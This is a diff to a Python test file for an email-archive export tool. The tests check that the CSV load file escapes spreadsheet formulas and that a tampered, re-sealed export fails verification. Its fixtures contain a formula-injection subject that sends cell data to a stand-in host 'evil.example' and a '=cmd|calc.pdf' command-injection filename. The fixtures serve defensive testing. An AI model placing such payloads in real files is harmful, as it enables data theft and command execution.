@@ -25,6 +25,52 @@ TRICKY = [
     b"Message-ID: <quote-2@partner.example>\n\nFrom here to there\n>From\nFrom",
 ]
 
+# What a load file must carry safely to a spreadsheet: a subject and an attachment name a spreadsheet
+# would run as formulas, a display name with a comma and quotes, and raw bytes that are not UTF-8.
+HOSTILE = [
+    b'From: "Doe, \\"Jane\\"" <jane@partner.example>\r\nTo: ben@northwind.example\r\n'
+    b'Subject: =HYPERLINK("http://evil.example/?"&A1,"click")\r\nMessage-ID: <hostile-1@partner.example>\r\n'
+    b'Date: Tue, 3 Mar 2026 08:15:00 +0100\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n'
+    b'\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b\r\nContent-Type: application/pdf\r\n'
+    b'Content-Disposition: attachment; filename="=cmd|calc.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
+    b'JVBERi0xLjQK\r\n--b--\r\n',
+    b'From: ana@partner.example\r\nTo: ben@northwind.example\r\nSubject: caf\xe9 \xff\xfe, "quoted"\r\n'
+    b'Message-ID: <raw8@partner.example>\r\n\r\nbody\r\n',
+]
+
+
+def sign_note(text, name, seed_hex):
+    """A C2SP signed note of `text` (bytes ending in a newline) by the Ed25519 key with this seed."""
+    import base64
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+    from cryptography.hazmat.primitives import serialization
+    key = Ed25519PrivateKey.from_private_bytes(bytes.fromhex(seed_hex))
+    pub = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
+    key_id = tlog.sha256(name.encode() + b"\n" + b"\x01" + pub)[:4]
+    sig = base64.b64encode(key_id + key.sign(text)).decode()
+    return text + f"\n\u2014 {name} {sig}\n".encode()
+
+
+def rewrite_and_reseal(path, out, change, seed_hex):
+    """The export at `path` written again to `out`, each entry's bytes through change(name, data), and
+    sealed again with the archive's own key (the seal: the zip comment, a signed note over the SHA-256
+    of every byte before it): what someone holding the key could make."""
+    with zipfile.ZipFile(path) as z:
+        entries = [(i.filename, change(i.filename, z.read(i.filename))) for i in z.infolist()]
+        origin = z.comment.decode().split("\n")[1]  # the seal's text: context, origin, hash
+    stand_in = sign_note(f"mailark.export-zip/v1\n{origin}\n{'0' * 64}\n".encode(), origin, seed_hex)
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
+        for name, data in entries:
+            z.writestr(name, data)
+        z.comment = stand_in
+    with open(out, "rb") as f:
+        whole = f.read()
+    sealed = whole[:len(whole) - len(stand_in)]
+    seal = sign_note(f"mailark.export-zip/v1\n{origin}\n{tlog.sha256(sealed).hex()}\n".encode(), origin, seed_hex)
+    assert len(seal) == len(stand_in)
+    with open(out, "wb") as f:
+        f.write(sealed + seal)
+
 
 class ExportTest(unittest.TestCase):
     def setUp(self):
@@ -193,6 +239,77 @@ class ExportTest(unittest.TestCase):
         self.assertIn("signature does not check", rep["problem"])
         with self.assertRaises(ValueError):
             tlog.verify_export(path, other_key)
+
+    def test_the_load_file_reads_in_a_csv_reader_and_says_what_the_manifest_says(self):
+        for i, raw in enumerate(HOSTILE):
+            path = os.path.join(self.tmp, f"hostile{i}.eml")
+            with open(path, "wb") as f:
+                f.write(raw)
+            self.run_cli("import", path, "--custodian", "ben@northwind.example")
+        for fmt in ("eml", "mbox"):
+            path, out = self.export("", f"load.{fmt}.zip", fmt)
+            self.assertEqual(out["messages"], 14)
+            self.assertEqual(self.verify(path)[0], 0)
+            self.assertEqual(tlog.verify_export(path, self.vkey), 14)
+            with zipfile.ZipFile(path) as z:
+                self.assertEqual(z.namelist()[:4], ["checkpoint", "manifest.jsonl", "manifest.sig", "loadfile.csv"])
+                data = z.read("loadfile.csv")
+                lines = [json.loads(x) for x in z.read("manifest.jsonl").decode().splitlines()]
+            self.assertEqual(lines[0]["format"], "mailark-export-v3")
+            entries = lines[1:]
+            rows = tlog.load_file_rows(data)  # strict RFC 4180, UTF-8, one line a row
+            self.assertEqual(rows[0], tlog.LOAD_FILE_COLUMNS)
+            self.assertEqual(data.count(b"\r\n"), 15)
+            by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
+            self.assertEqual(list(by_id), [str(m["id"]) for m in entries])
+            first = by_id["1"]  # the demo's first message: one attachment
+            self.assertEqual((first["Subject"], first["AttachmentCount"], first["AttachmentNames"]),
+                             ("Quarterly shipping forecast", "1", "forecast-q2.csv"))
+            self.assertEqual(first["DateSent"], "2026-03-02T09:00:00Z")
+            self.assertEqual(first["Custodians"], "Ana Ortega")
+            self.assertIn("Chloé Dubois <chloe.dubois@northwind.example>", first["To"])
+            self.assertEqual(first["NativeFile"], "messages/0000000001.eml" if fmt == "eml" else "messages.mbox")
+            infected = [r for r in by_id.values() if r["Verdict"] == "infected"]
+            self.assertEqual(len(infected), 1)
+            self.assertTrue(infected[0]["VerdictDetail"])  # the signature's name
+            hostile = next(r for r in by_id.values() if r["MessageID"] == "hostile-1@partner.example")
+            # What a spreadsheet would run is shown as text; the rest of the cell as it was.
+            self.assertEqual(hostile["Subject"], '\'=HYPERLINK("http://evil.example/?"&A1,"click")')
+            self.assertEqual(hostile["AttachmentNames"], "'=cmd|calc.pdf")
+            self.assertEqual(hostile["From"], 'Doe, "Jane" <jane@partner.example>')
+            self.assertEqual(hostile["DateSent"], "2026-03-03T07:15:00Z")
+            raw8 = next(r for r in by_id.values() if r["MessageID"] == "raw8@partner.example")
+            self.assertTrue(raw8["Subject"].startswith("caf"), raw8)
+            self.assertTrue(raw8["Subject"].endswith(', "quoted"'), raw8)
+            if fmt == "mbox":
+                self.assertEqual([r["MboxOffset"] for r in by_id.values()], [str(m["mbox_offset"]) for m in entries])
+
+    def test_a_load_file_that_differs_from_the_manifest_does_not_check_even_resealed(self):
+        path, _ = self.export("", "seal.zip")
+        with open(os.path.join(self.data, "checkpoint.key")) as f:
+            seed = f.read().strip()
+        # Rewritten and sealed again unchanged, it still checks (the rewriting itself is sound) ...
+        same = os.path.join(self.tmp, "same.zip")
+        rewrite_and_reseal(path, same, lambda name, data: data, seed)
+        self.assertEqual(self.verify(same)[0], 0)
+        self.assertEqual(tlog.verify_export(same, self.vkey), 12)
+        # ... but one message's SHA-256 in the load file made another's, or a row dropped, does not.
+        with zipfile.ZipFile(path) as z:
+            rows = z.read("loadfile.csv").split(b"\r\n")
+        a, b = rows[1].split(b'","'), rows[2].split(b'","')
+        sha = tlog.LOAD_FILE_COLUMNS.index("SHA256")
+        a[sha] = b[sha]
+        cases = {"swapped": (b"\r\n".join([rows[0], b'","'.join(a)] + rows[2:]), "SHA256 of message 1"),
+                 "dropped": (b"\r\n".join(rows[:2] + rows[3:]), "")}
+        for what, (changed, problem) in cases.items():
+            bent = os.path.join(self.tmp, f"{what}.zip")
+            rewrite_and_reseal(path, bent, lambda name, data: changed if name == "loadfile.csv" else data, seed)
+            rc, rep = self.verify(bent)
+            self.assertEqual(rc, 1, f"{what}: {rep}")
+            self.assertIn("loadfile.csv", rep["problem"])
+            self.assertIn(problem, rep["problem"])
+            with self.assertRaises(ValueError, msg=what):
+                tlog.verify_export(bent, self.vkey)
 
     def test_a_changed_byte_in_any_entry_is_caught(self):
         for fmt in ("eml", "mbox"):
